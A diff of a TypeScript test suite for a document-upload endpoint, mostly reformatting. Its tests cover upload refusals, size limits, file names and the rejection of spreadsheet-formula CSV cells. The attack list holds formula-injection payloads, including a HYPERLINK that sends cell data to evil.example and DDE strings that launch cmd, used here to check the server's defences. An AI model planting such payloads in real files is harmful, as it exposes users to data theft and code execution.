@@ -68,12 +68,20 @@ function upload(content: Buffer, type: string, name: string, headers: Record<str
 
 /** A multipart body written by hand (one part per file), for what FormData would not send. */
 function multipart(disposition: string, type: string, content: Buffer, ...more: [string, string, Buffer][]): Buffer {
-  const part = ([d, t, c]: [string, string, Buffer]) => [Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; ${d}\r\nContent-Type: ${t}\r\n\r\n`), c, Buffer.from('\r\n')];
+  const part = ([d, t, c]: [string, string, Buffer]) => [
+    Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; ${d}\r\nContent-Type: ${t}\r\n\r\n`),
+    c,
+    Buffer.from('\r\n'),
+  ];
   return Buffer.concat([...[[disposition, type, content] as [string, string, Buffer], ...more].flatMap(part), Buffer.from(`--${BOUNDARY}--\r\n`)]);
 }
 
 function postRaw(body: Buffer | string, headers: Record<string, string>): Promise<Response> {
-  return fetch(documentsUrl, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, ...headers }, body: typeof body === 'string' ? body : new Uint8Array(body) });
+  return fetch(documentsUrl, {
+    method: 'POST',
+    headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, ...headers },
+    body: typeof body === 'string' ? body : new Uint8Array(body),
+  });
 }
 
 /**
@@ -152,7 +160,10 @@ describe('callers refused before the body is read', () => {
 describe('callers refused before the body is read (its end never comes)', () => {
   it('answers an unauthenticated upload and a caller who does not see the profile while the body is still arriving, spooling nothing', async () => {
     const stranger = await exactToken((await signUpIntegrator(app)).loginToken, ['profile:write']);
-    for (const [authorization, expected] of [[undefined, 'HTTP/1.1 401'], [stranger.authorization, 'HTTP/1.1 404']] as const) {
+    for (const [authorization, expected] of [
+      [undefined, 'HTTP/1.1 401'],
+      [stranger.authorization, 'HTTP/1.1 404'],
+    ] as const) {
       const upload = await stalledUpload(authorization);
       try {
         expect(await upload.status).toMatch(new RegExp(`^${expected} `));
@@ -208,7 +219,13 @@ describe('bodies that end badly leave nothing behind', () => {
   it('answers 413 from the headers alone when the declared body is far too large, and reads none of it', async () => {
     const { hostname, port, pathname } = new URL(documentsUrl);
     const res = await new Promise<http.IncomingMessage>((resolve, reject) => {
-      const req = http.request({ hostname, port, path: pathname, method: 'POST', headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'content-length': String(500 * 1024 * 1024) } });
+      const req = http.request({
+        hostname,
+        port,
+        path: pathname,
+        method: 'POST',
+        headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'content-length': String(500 * 1024 * 1024) },
+      });
       req.on('response', (response) => {
         resolve(response);
         req.destroy();
@@ -222,9 +239,19 @@ describe('bodies that end badly leave nothing behind', () => {
 
   it('caps a chunked body with no declared length at the limit too (413)', async () => {
     const { hostname, port, pathname } = new URL(documentsUrl);
-    const body = multipart('filename="chunked.pdf"', 'application/pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(MAX_DOCUMENT_BYTES + 1024 * 1024, 0x20)]));
+    const body = multipart(
+      'filename="chunked.pdf"',
+      'application/pdf',
+      Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(MAX_DOCUMENT_BYTES + 1024 * 1024, 0x20)]),
+    );
     const status = await new Promise<number>((resolve, reject) => {
-      const req = http.request({ hostname, port, path: pathname, method: 'POST', headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'transfer-encoding': 'chunked' } });
+      const req = http.request({
+        hostname,
+        port,
+        path: pathname,
+        method: 'POST',
+        headers: { ...writer, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'transfer-encoding': 'chunked' },
+      });
       req.on('response', (response) => {
         response.resume();
         resolve(response.statusCode!);
@@ -247,7 +274,10 @@ describe('file names', () => {
     expect((await raw.json()).fileName).toBe(names[0]);
     const stored = await upload(csv, 'text/csv', names[1]!);
     expect(stored.status).toBe(201);
-    const extended = await postRaw(multipart(`filename="Zahlung.pdf"; filename*=UTF-8''${encodeURIComponent('Überweisung-Ø.pdf')}`, 'application/pdf', PDF), writer);
+    const extended = await postRaw(
+      multipart(`filename="Zahlung.pdf"; filename*=UTF-8''${encodeURIComponent('Überweisung-Ø.pdf')}`, 'application/pdf', PDF),
+      writer,
+    );
     expect(extended.status).toBe(201);
     expect((await extended.json()).fileName).toBe('Überweisung-Ø.pdf');
 
@@ -276,8 +306,8 @@ describe('CSV cells a spreadsheet would run as formulas', () => {
     const attacks = [
       'name,amount\n"=HYPERLINK(""https://evil.example/?""&A1,""Open"")",10\n',
       'name,amount\nRent,+1+2\n',
-      'name,amount\nRent,-2+3+cmd|\' /C calc\'!A0\n',
-      'name;amount\n@SUM(1+1)*cmd|\' /C calc\'!A0;10\n',
+      "name,amount\nRent,-2+3+cmd|' /C calc'!A0\n",
+      "name;amount\n@SUM(1+1)*cmd|' /C calc'!A0;10\n",
       'name,amount\n"\t=1+2",10\n',
       'name,amount\n"\r=1+2",10\n',
     ];
@@ -294,7 +324,12 @@ describe('CSV cells a spreadsheet would run as formulas', () => {
   it('applies the same rule to GraphQL attachDocument', async () => {
     const { graphql } = await import('./support/graphql-client.js');
     const content = Buffer.from('name,amount\n=1+2,3\n').toString('base64');
-    const res = await graphql(app.url, 'mutation($p: ID!, $c: String!) { attachDocument(profileId: $p, fileName: "x.csv", contentType: "text/csv", contentBase64: $c) { id } }', { p: profileId, c: content }, writer);
+    const res = await graphql(
+      app.url,
+      'mutation($p: ID!, $c: String!) { attachDocument(profileId: $p, fileName: "x.csv", contentType: "text/csv", contentBase64: $c) { id } }',
+      { p: profileId, c: content },
+      writer,
+    );
     expect(res.errors?.[0]?.extensions).toMatchObject({ code: 'UNPROCESSABLE' });
   });
 });
